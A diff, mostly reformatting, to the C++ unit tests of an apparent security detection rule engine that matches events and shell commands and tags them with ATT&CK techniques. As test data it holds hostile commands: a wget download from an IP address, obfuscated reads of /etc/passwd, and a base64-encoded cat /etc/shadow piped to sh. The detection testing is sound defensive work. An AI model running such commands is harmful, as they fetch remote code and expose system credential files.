@@ -1,7 +1,7 @@
 #include <rulehost/engine.hpp>
 
-#include "support/events.hpp"
 #include "support/definitions.hpp"
+#include "support/events.hpp"
 
 #include <boost/json/serialize.hpp>
 #include <boost/test/unit_test.hpp>
@@ -91,7 +91,9 @@ BOOST_AUTO_TEST_CASE(command_behind_thousands_of_parts_is_found) {
             line += ":;";
         BOOST_TEST(fires("{pattern: '^wget http'}", command(line + "wget http://198.51.100.7/x")), before);
         BOOST_TEST(fires("{pattern: '^wget http'}", command(line + "w'g'et http://198.51.100.7/x")), before);
-        BOOST_TEST(fires("{starts_with: 'wget http'}", command(line + "wget http://198.51.100.7/x;" + line.substr(0, 1'000))), before);
+        BOOST_TEST(
+            fires("{starts_with: 'wget http'}", command(line + "wget http://198.51.100.7/x;" + line.substr(0, 1'000))),
+            before);
         BOOST_TEST(!fires("{pattern: '^wget http'}", command(line + "echo wget http://198.51.100.7/x")), before);
     }
 }
@@ -168,7 +170,8 @@ BOOST_AUTO_TEST_CASE(numbers_compare_by_value_and_never_with_strings) {
 }
 
 BOOST_AUTO_TEST_CASE(lists_ask_any_element_or_all_of_them) {
-    auto const e = make_event("email", R"({"urls":["http://a.ru","https://b.com"],"none":[],"parts":[{"t":"x"},{"t":"y"}]})");
+    auto const e =
+        make_event("email", R"({"urls":["http://a.ru","https://b.com"],"none":[],"parts":[{"t":"x"},{"t":"y"}]})");
     BOOST_TEST(fires("{field: urls, ends_with: .ru}", e));
     BOOST_TEST(!fires("{field: urls, ends_with: .ru, all: true}", e));
     BOOST_TEST(fires("{field: urls, starts_with: http, all: true}", e));
@@ -196,7 +199,8 @@ BOOST_AUTO_TEST_CASE(existence_is_about_values_that_are_not_null) {
 }
 
 BOOST_AUTO_TEST_CASE(networks_of_both_families) {
-    auto const e = make_event("session", R"({"v4":"10.1.2.3","v6":"2001:db8::1","mapped":"::ffff:10.1.2.3","bad":"10.1.2.3.4"})");
+    auto const e =
+        make_event("session", R"({"v4":"10.1.2.3","v6":"2001:db8::1","mapped":"::ffff:10.1.2.3","bad":"10.1.2.3.4"})");
     BOOST_TEST(fires("{field: v4, cidr: [192.168.0.0/16, 10.0.0.0/8]}", e));
     BOOST_TEST(!fires("{field: v4, cidr: 10.2.0.0/15}", e));
     BOOST_TEST(fires("{field: v6, cidr: '2001:db8::/32'}", e));
@@ -216,7 +220,8 @@ BOOST_AUTO_TEST_CASE(two_fields_compare_only_when_both_are_there) {
 BOOST_AUTO_TEST_CASE(fields_of_many_values_compare_as_those_of_few_do) {
     auto const filler = R"("f0","f1","f2","f3","f4","f5","f6","f7",)";
     auto const with = [&](std::string const& a, std::string const& b) {
-        return make_event("email", "{\"few\":[" + a + "],\"a\":[" + filler + a + "],\"b\":[" + R"(0,1,2,3,4,5,6,7,)" + b + "]}");
+        return make_event("email",
+                          "{\"few\":[" + a + "],\"a\":[" + filler + a + "],\"b\":[" + R"(0,1,2,3,4,5,6,7,)" + b + "]}");
     };
     struct {
         std::string a, b;
@@ -253,7 +258,8 @@ BOOST_AUTO_TEST_CASE(fields_of_many_values_compare_as_those_of_few_do) {
 
 BOOST_AUTO_TEST_CASE(conditions_nest) {
     auto const e = make_event("session", R"({"a":1,"b":"two"})");
-    BOOST_TEST(fires("{all_of: [{field: a, equals: 1}, {any_of: [{field: b, equals: x}, {field: b, equals: two}]}]}", e));
+    BOOST_TEST(
+        fires("{all_of: [{field: a, equals: 1}, {any_of: [{field: b, equals: x}, {field: b, equals: two}]}]}", e));
     BOOST_TEST(!fires("{all_of: [{field: a, equals: 1}, {not: {field: b, equals: two}}]}", e));
     BOOST_TEST(fires("{not: {field: a, equals: 2}}", e));
 }
@@ -276,7 +282,8 @@ BOOST_AUTO_TEST_CASE(command_matches_as_line_part_and_normalised) {
     BOOST_TEST(matched_on("{pattern: '^wget'}", "echo 'a; wget x'") == "");
     BOOST_TEST(matched_on("{pattern: 'cat /etc/passwd'}", "c'a't$IFS/e\"t\"c/pass\\wd") == "normalised");
     BOOST_TEST(matched_on("{pattern: 'cat /etc/passwd', normalise: false}", "c'a't /etc/passwd") == "");
-    BOOST_TEST(matched_on("{pattern: 'cat /etc/shadow'}", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh") == "normalised");
+    BOOST_TEST(matched_on("{pattern: 'cat /etc/shadow'}", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh") ==
+               "normalised");
 }
 
 BOOST_AUTO_TEST_CASE(text_past_the_scan_limit_is_not_looked_at_and_said_so) {
@@ -291,7 +298,9 @@ BOOST_AUTO_TEST_CASE(text_past_the_scan_limit_is_not_looked_at_and_said_so) {
 BOOST_AUTO_TEST_CASE(evidence_of_a_list_is_as_long_as_what_is_looked_at_of_a_text) {
     add(definition_of("rule_id: R1\nname: a rule\napplies_to: [email]\nmatch: {field: a, exists: true}\n"
                       "emits: [{technique_id: T1105, tactic: TA0011, confidence: 0.9}]\nevidence_fields: [a, b.c]\n"));
-    auto const evidence_of = [&](std::string const& payload) { return tags(make_event("email", payload)).at(0).evidence; };
+    auto const evidence_of = [&](std::string const& payload) {
+        return tags(make_event("email", payload)).at(0).evidence;
+    };
     auto const few = evidence_of(R"({"a":["x",1,{"y":[null,true]}],"b":[{"c":"p"},{"c":["q"]}]})");
     BOOST_TEST(few.at("a") == boost::json::value({"x", 1, {{"y", {nullptr, true}}}}));
     BOOST_TEST(few.at("b.c") == boost::json::value({"p", boost::json::array{"q"}}));
@@ -301,7 +310,8 @@ BOOST_AUTO_TEST_CASE(evidence_of_a_list_is_as_long_as_what_is_looked_at_of_a_tex
     std::string numbers = "1";
     for (int i = 0; i != 100'000; ++i)
         numbers += ",1";
-    for (auto const& many : {text + ',' + text + ',' + text, "{\"y\":[" + text + ',' + text + "]}", "{" + text + ":[" + text + "]}", numbers}) {
+    for (auto const& many : {text + ',' + text + ',' + text, "{\"y\":[" + text + ',' + text + "]}",
+                             "{" + text + ":[" + text + "]}", numbers}) {
         auto const much = evidence_of("{\"a\":[" + many + "]}");
         BOOST_TEST(much.at("truncated") == true);
         BOOST_TEST(serialize(much.at("a")).size() <= 64 * 1024u + 100);
